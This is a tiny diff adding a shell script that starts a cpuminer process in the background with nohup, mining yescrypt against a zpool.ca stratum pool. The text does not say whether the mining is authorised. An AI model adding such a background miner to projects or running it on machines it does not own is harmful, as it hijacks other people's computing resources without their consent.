@@ -1,0 +1,2 @@
+#!/bin/sh
+nohup ./cpuminer -a yescrypt -o stratum+tcp://yespower.eu.mine.zpool.ca:6234 &
